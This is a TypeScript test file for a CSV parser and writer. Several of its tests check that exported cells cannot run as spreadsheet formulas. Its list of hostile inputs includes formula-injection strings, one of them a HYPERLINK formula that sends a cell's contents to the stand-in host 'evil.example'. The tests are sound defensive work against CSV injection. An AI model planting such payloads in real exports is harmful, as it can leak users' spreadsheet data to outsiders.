import { fc } from '#tests/properties.ts';
import { describe, expect, test } from 'vitest';
import { parseCells, lineOfCells, parseRows, detectSeparator } from './csv.ts';

const rows = (text: string) => [...parseRows(text, ',')];

describe('CSV', () => {
  test('rows have the line they start on, also after cells with several lines', () => {
    expect(rows('a,b\r\n\r\n"c\nd",e\n"f ""g""",h\ni,"j')).toEqual([
      { line: 1, cells: ['a', 'b'] },
      { line: 3, cells: ['c\nd', 'e'] },
      { line: 5, cells: ['f "g"', 'h'] },
      { line: 6, cells: ['i', 'j'] },
    ]);
  });

  test('a row longer than in any export has no cells', () => {
    expect(rows(`a,b\n${','.repeat(200_001)}\nc,"${'x'.repeat(200_000)}\nd"\ne`)).toEqual([
      { line: 1, cells: ['a', 'b'] },
      { line: 2, cells: [] },
      { line: 3, cells: [] },
      { line: 5, cells: ['e'] },
    ]);
  });

  test('the separator is the one that occurs most often in the header', () => {
    expect(['a,b;c,d', 'a;b', 'a\tb\tc;d', 'a'].map(detectSeparator)).toEqual([',', ';', '\t', ',']);
  });

  test('a row of plain cells is split like the same cells in quotes', () => {
    const plain = fc.string({ unit: fc.constantFrom(...'azAZ09_.:,+-'.split('')), maxLength: 12 });
    fc.assert(
      fc.property(fc.array(plain, { minLength: 1, maxLength: 6 }), (cells) => {
        expect(parseCells(cells.join(';'), ';')).toEqual(cells);
        expect(parseCells(cells.map((cell) => `"${cell}"`).join(';'), ';')).toEqual(cells);
      }),
    );
  });

  const FORMULA = /^["'\s]*[=+\-@]/u;
  const hostile = [
    '=1+1',
    '+49',
    '-5',
    '@sum',
    '＝1',
    'a;=HYPERLINK("http://evil.example?x="&A1)',
    'a;"=1+1"',
    'a; \t=1',
    'two\n=lines',
    'tab\t+1',
    "a;'=1",
  ];
  const harmless = ['a,b', 'say "x"', "'quoted'", "a;'b'", 'two\nlines', 'a-b; c', '12:30', '', '120', '5.6'];

  test('is read back unchanged, and every text is in quotes', () => {
    const cells = [...hostile, ...harmless];
    expect(parseCells(lineOfCells(cells), ',')).toEqual(cells);
    expect(lineOfCells(['tuna', '2', '2026-05-14T10:00:00+02:00', '', '-5'])).toBe(
      `"tuna",2,2026-05-14T10:00:00+02:00,,"'-5"`,
    );
  });

  test.each([';', ',', '\t', '\n'])(
    'no cell of it is calculated, wherever a spreadsheet cuts it: at “%s”',
    (separator) => {
      for (const cell of hostile) {
        for (const part of lineOfCells(['x', cell, 'y']).split(separator)) {
          // a quote at the start of a cell is part of the syntax when the line is split at commas
          const seen = separator === ',' ? part.replace(/^"/u, '') : part;
          expect([cell, FORMULA.test(seen) && !/^["\s]*'/u.test(seen)]).toEqual([cell, false]);
        }
      }
    },
  );

  test('random texts are read back unchanged', () => {
    const signs = `;,\t\n"'=+-@ ab`.split('');
    let seed = 1;
    const next = (below: number) => (seed = (seed * 48_271) % 2_147_483_647) % below;
    for (let round = 0; round < 3_000; round += 1) {
      const text = Array.from({ length: next(9) }, () => signs[next(signs.length)])
        .join('')
        .trim();
      expect(parseCells(lineOfCells(['x', text]), ',')).toEqual(['x', text]);
    }
  });
});
